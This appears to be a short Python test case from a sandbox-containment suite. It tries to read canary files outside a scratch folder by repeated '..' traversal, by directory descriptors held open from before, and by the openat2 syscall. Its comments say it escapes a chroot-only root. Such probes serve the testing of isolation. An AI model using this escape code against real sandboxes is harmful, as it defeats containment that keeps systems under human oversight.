# Climbs out of the scratch folder by "..", by folders held open from before, and by openat2.
# A root that was changed by chroot alone is left this way.
# contained: passed
# in the open: succeeds
import ctypes


def attack():
    up = "../" * 40
    wanted = [up + path.lstrip("/") for path in TARGET["canaries"]]
    folders = [None, *range(64)]

    def climb(folder, path):
        if folder is None:
            os.chdir("/")
            os.chdir("..")
        with open(os.open(path, os.O_RDONLY, dir_fd=folder)) as file:
            return file.read()

    def openat2(folder, path):
        how = (ctypes.c_uint64 * 3)(os.O_RDONLY, 0, 0)
        return os.read(
            syscall("openat2", -100 if folder is None else folder, path.encode(), how, 24), 99
        )

    return first(
        {
            f"{how.__name__} {folder} {path}": lambda how=how, folder=folder, path=path: how(
                folder, path
            )
            for how in (climb, openat2)
            for folder in folders
            for path in wanted
        }
    )
